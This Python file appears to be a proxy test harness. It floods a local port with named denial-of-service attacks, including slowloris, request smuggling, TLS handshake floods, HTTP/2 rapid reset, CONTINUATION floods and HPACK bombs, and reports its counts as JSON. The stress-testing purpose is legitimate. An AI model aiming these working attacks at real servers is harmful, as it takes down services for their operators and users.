"""Attacks on a door from many connections at a stated rate. A program of its own, so that it runs on another core than
the client whose answers are measured:

    attacker.py NAME PORT CONNECTIONS RATE SECONDS       RATE: actions a second over all connections

Prints one line of JSON: how often it acted, connected, and was answered."""

import asyncio
import functools
import json
import os
import random
import socket
import ssl
import struct
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(HERE)), "fuzz"))


CARELESS = ssl.create_default_context()
CARELESS.check_hostname, CARELESS.verify_mode = False, ssl.CERT_NONE


def hello():
    """The first record of a client."""
    out = ssl.MemoryBIO()
    try:
        CARELESS.wrap_bio(ssl.MemoryBIO(), out, server_hostname="web.test").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


HELLO = hello()


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
CANCEL = b"\0\0\0\x08"
HEAD = b"\x82\x86\x84\x01\x08web.test"  # GET http / of web.test
BIG_HEAD = b"\x82\x86\x04\x04/big\x01\x08web.test"
POST_HEAD = b"\x83\x86\x84\x01\x08web.test"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def get(stream, head=HEAD):
    return frame(HEADERS, 5, stream, head)


@functools.cache
def uploads(host, count, sending):
    """So many requests that do not end; some of them send what their window allows. Within the connection's window."""
    post = b"\x83\x86\x84\x01" + bytes([len(host)]) + host
    ids = range(1, 2 * count, 2)
    return b"".join(frame(HEADERS, 4, i, post) for i in ids) + b"".join(frame(DATA, 0, i, b"x" * 8000) for _ in range(8) for i in ids[:sending])


class Attacker:
    def __init__(self, port, connections, rate, seconds):
        self.port, self.connections, self.seconds = port, connections, seconds
        self.pause = connections / rate
        self.end = time.monotonic() + seconds
        self.actions = self.connects = self.answered = self.failed = 0

    def running(self):
        return time.monotonic() < self.end

    async def tick(self):
        """One action's share of the time of one connection."""
        self.actions += 1
        await asyncio.sleep(self.pause * random.uniform(0.5, 1.5))

    async def open(self, rcvbuf=0):
        s = socket.socket()
        s.setblocking(False)
        if rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        await asyncio.get_running_loop().sock_connect(s, ("127.0.0.1", self.port))
        self.connects += 1
        return s

    async def put(self, s, data):
        """What the kernel takes now; an attacker does not wait."""
        try:
            return s.send(data)
        except (BlockingIOError, InterruptedError):
            return 0

    async def get(self, s, n=65536):
        try:
            data = s.recv(n)
            self.answered += bool(data)
            return data
        except (BlockingIOError, InterruptedError):
            return None

    async def drip(self, first, piece, rcvbuf=0):
        """A connection that says `first`, then `piece` again and again, until the proxy has enough."""
        s = await self.open(rcvbuf)
        try:
            await self.put(s, first)
            while self.running():
                await self.tick()
                await self.put(s, piece)
                if await self.get(s) == b"":
                    return
        finally:
            s.close()

    async def shoot(self, data, reset=False, wait=True):
        """A connection for one thing; then it is closed or reset."""
        s = await self.open()
        try:
            await self.put(s, data)
            if wait:
                for _ in range(20):
                    await asyncio.sleep(0.002)
                    if await self.get(s) == b"":
                        break
            if reset:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        finally:
            s.close()
        await self.tick()

    # ---- the attacks, by the rows of the hostile input ----

    async def h32_slow_heads(self):
        await self.drip(b"GET / HTTP/1.1\r\nHost: web.test\r\n", b"X-a: b\r\n")

    async def h32_slow_bodies(self):
        await self.drip(b"POST / HTTP/1.1\r\nHost: web.test\r\nContent-Length: 1000000\r\n\r\n", b"x")

    async def h32_slow_readers(self):
        s = await self.open(rcvbuf=2048)
        try:
            await self.put(s, b"GET /big HTTP/1.1\r\nHost: web.test\r\n\r\n")
            while self.running():
                await self.tick()
                if await self.get(s, 16) == b"":
                    return
        finally:
            s.close()

    async def h1_two_framings(self):
        await self.shoot(b"POST / HTTP/1.1\r\nHost: web.test\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nX")

    async def h1_to_h19_mutants(self):
        import grammar
        await self.shoot(grammar.make(random, b"m%d" % random.randrange(10 ** 9))[0])

    async def h7_tiny_chunks(self):
        await self.drip(b"POST / HTTP/1.1\r\nHost: web.test\r\nTransfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 200)

    async def h7_chunk_extensions(self):
        await self.shoot(b"POST / HTTP/1.1\r\nHost: web.test\r\nTransfer-Encoding: chunked\r\n\r\n1;" + b"e" * 20000 + b"\r\nx\r\n0\r\n\r\n")

    async def h20_unwanted_bodies(self):
        await self.drip(b"POST / HTTP/1.1\r\nHost: nobody.example\r\nContent-Length: 100000000\r\n\r\n", b"x" * 20000)

    async def h22_upgrades_without_answer(self):
        await self.shoot(b"GET / HTTP/1.1\r\nHost: web.test\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n" + b"x" * 5000)

    async def ask(self, host, target):
        """One request after the other, whatever comes back."""
        s = await self.open()
        try:
            while self.running():
                await self.put(s, b"GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, host))
                await self.tick()
                while data := await self.get(s):
                    pass
                if data == b"":
                    return
        finally:
            s.close()

    async def h28_h29_bad_servers(self):
        await self.ask(b"bad.test", b"/bad")

    async def f_bad_servers(self):
        await self.ask(b"fcgi.test", b"/x.php")

    async def h30_pipelines(self):
        s = await self.open(rcvbuf=2048)
        try:
            while self.running():
                await self.put(s, b"GET / HTTP/1.1\r\nHost: web.test\r\n\r\n" * 20)
                await self.tick()
        finally:
            s.close()

    async def h31_big_heads(self):
        await self.shoot(b"GET / HTTP/1.1\r\nHost: web.test\r\n" + b"".join(b"X-%d: %s\r\n" % (i, b"v" * 300) for i in range(200)) + b"\r\n")

    async def h33_connections(self):
        await self.shoot(b"", wait=False)

    async def h33_resets(self):
        await self.shoot(b"GET / HTTP/1.1\r\nHost: web.test\r\n\r\n", reset=True, wait=False)

    # To a listener with TLS.

    async def h33_tls_slow_handshakes(self):
        await self.drip(HELLO[:20], HELLO[20:21])

    async def h33_tls_half_handshakes(self):
        await self.shoot(HELLO, wait=False)

    async def h33_tls_garbage(self):
        await self.shoot(random.choice([b"GET / HTTP/1.1\r\n\r\n", HELLO[:5] + b"\0" * 500, b"\x16\x03\x01\x40\x00" + b"x" * 16384, b"\x15\x03\x01\x00\x02\x02\x28"]))

    async def h33_tls_handshakes(self):
        """Whole ones, one after the other, and nothing asked."""
        reader, writer = await asyncio.open_connection("127.0.0.1", self.port, ssl=CARELESS, server_hostname="web.test")
        self.connects += 1
        writer.close()
        await self.tick()

    async def h18_bad_targets(self):
        await self.shoot(random.choice([b"GET /%00 HTTP/1.1\r\nHost: web.test\r\n\r\n", b"GET /a/../../x HTTP/1.1\r\nHost: web.test\r\n\r\n",
                                        b"GET /" + b"%2e/" * 2000 + b" HTTP/1.1\r\nHost: web.test\r\n\r\n", b"\0" * 8000, b"\n" * 8000]))

    # HTTP/2, with prior knowledge. Each goes on with a new connection once the proxy has had enough.

    async def streams(self, first, more, settings=b"", rcvbuf=0):
        """A connection that says `first`, then more(n), where n is the next unused stream, at every tick."""
        s = await self.open(rcvbuf)
        stream = 1
        try:
            await self.put(s, PREFACE + frame(SETTINGS, 0, 0, settings) + first)
            while self.running():
                data, count = more(stream)
                stream += 2 * count
                await self.put(s, data)
                await self.tick()
                if not rcvbuf and await self.get(s) == b"":
                    return
        finally:
            s.close()

    async def t1_rapid_reset(self):
        await self.streams(b"", lambda n: (b"".join(get(i) + frame(RST, 0, i, CANCEL) for i in range(n, n + 20, 2)), 10))

    async def t2_made_you_reset(self):
        await self.streams(b"", lambda n: (b"".join(get(i) + frame(WINDOW, 0, i, b"\x7f\xff\xff\xff") for i in range(n, n + 20, 2)), 10))

    async def t3_continuations(self):
        await self.streams(frame(HEADERS, 0, 1, HEAD), lambda n: (frame(CONTINUATION, 0, 1, b"\0\1a\1b") * 20, 0))

    async def t4_hpack_bomb(self):
        block = HEAD + b"\x40\x01x\x7f\xe1\x1e" + b"v" * 4000 + b"\xbe" * 10000  # one field, then itself again and again
        await self.streams(b"", lambda n: (frame(HEADERS, 5, n, block), 1))

    async def t4_cookie_crumbs(self):
        block = HEAD + b"\x10\x06cookie\x01a" * 1500
        await self.streams(b"", lambda n: (frame(HEADERS, 5, n, block), 1))

    # Every request is within the limits, and no answer can leave: what counts is what they take together.

    async def hold(self, first, settings=b"\0\4\0\0\0\0"):
        """A connection that says all of `first`, however long it takes, and PINGs from then on."""
        s = await self.open()
        try:
            left = PREFACE + frame(SETTINGS, 0, 0, settings) + first
            while self.running():
                left = left[await self.put(s, left):] if left else left
                await self.tick()
                if not left:
                    await self.put(s, frame(PING, 0, 0, b"12345678"))
                if await self.get(s) == b"":
                    return
        finally:
            s.close()

    async def t4_heads_below_the_limit(self):
        long = b"\x40\x01x\x7f\xbd\x1d" + b"v" * 3900  # seven of it are 27 KB; later ones take a byte
        await self.hold(b"".join(get(i, HEAD + (long if i == 1 else b"\xbe") + b"\xbe" * 6) for i in range(1, 201, 2)))

    async def t4_heads_of_many_fields(self):
        await self.hold(b"".join(get(i, HEAD + b"\x10\1a\1b" * 90) for i in range(1, 201, 2)))

    async def t4_trailers_below_the_limit(self):
        long = b"\x40\x01x\x7f\xbd\x1d" + b"v" * 3900
        requests = b"".join(frame(HEADERS, 4, i, POST_HEAD) for i in range(1, 201, 2))
        await self.hold(requests + b"".join(frame(HEADERS, 5, i, (long if i == 1 else b"\xbe") + b"\xbe" * 6) for i in range(1, 201, 2)))

    async def t6_uploads_collected(self):
        await self.hold(uploads(b"collect.test", 100, 24), settings=b"")

    async def t6_uploads_unread(self):
        await self.hold(uploads(b"slow.test", 100, 14), settings=b"")

    async def t5_pings(self):
        await self.streams(b"", lambda n: (frame(PING, 0, 0, b"12345678") * 50, 0))

    async def t5_settings(self):
        await self.streams(b"", lambda n: (frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0") * 50, 0))

    async def t5_empty_data(self):
        await self.streams(frame(HEADERS, 4, 1, POST_HEAD), lambda n: (frame(DATA, 0, 1) * 50, 0))

    async def t5_priorities(self):
        await self.streams(b"", lambda n: (frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 50, 0))

    async def t6_no_window(self):
        await self.streams(b"".join(get(i, BIG_HEAD) for i in range(1, 101, 2)), lambda n: (frame(PING, 0, 0, b"12345678"), 0), settings=b"\0\4\0\0\0\0")

    async def t6_no_window_for_little(self):
        await self.streams(b"".join(get(i) for i in range(1, 201, 2)), lambda n: (frame(PING, 0, 0, b"12345678"), 0), settings=b"\0\4\0\0\0\0")

    async def t6_tiny_window(self):
        first = b"".join(get(i, BIG_HEAD) for i in range(1, 21, 2))
        await self.streams(first, lambda n: (b"".join(frame(WINDOW, 0, i, b"\0\0\0\1") for i in range(1, 21, 2)), 0), settings=b"\0\4\0\0\0\1")

    async def t13_frames_of_any_kind(self):
        await self.streams(b"", lambda n: (frame(random.randrange(12), random.randrange(256), random.randrange(8), random.randbytes(random.randrange(40))), 0))

    async def t17_unread_answers(self):
        await self.streams(b"", lambda n: (b"".join(get(i) for i in range(n, n + 40, 2)) + frame(PING, 0, 0, b"12345678") * 10, 20), rcvbuf=2048)

    async def p1_no_proxy_header(self):
        await self.shoot(b"GET / HTTP/1.1\r\nHost: web.test\r\n\r\n")

    async def p1_slow_proxy_headers(self):
        await self.drip(b"PROXY UNKNOWN ", b"x")

    async def p2_big_proxy_headers(self):
        await self.drip(b"\r\n\r\n\0\r\nQUIT\n\x21\x11\x0f\xe0", b"x" * 50)

    # ----

    async def connection(self, attack):
        while self.running():
            try:
                await attack()
            except OSError:
                self.failed += 1
                await self.tick()

    async def run(self, name):
        attack = getattr(self, name)
        await asyncio.gather(*(self.connection(attack) for _ in range(self.connections)))


ATTACKS = [n for n in vars(Attacker) if n[0] in "hpt" and n[1:2].isdigit() or n.startswith("f_")]


def main():
    name, port, connections, rate, seconds = sys.argv[1], *map(float, sys.argv[2:6])
    cores = sorted(os.sched_getaffinity(0))
    os.sched_setaffinity(0, cores[-1:])
    a = Attacker(int(port), int(connections), rate, seconds)
    asyncio.run(a.run(name))
    print(json.dumps({"actions": a.actions, "connects": a.connects, "answered": a.answered, "failed": a.failed}))


if __name__ == "__main__":
    main()
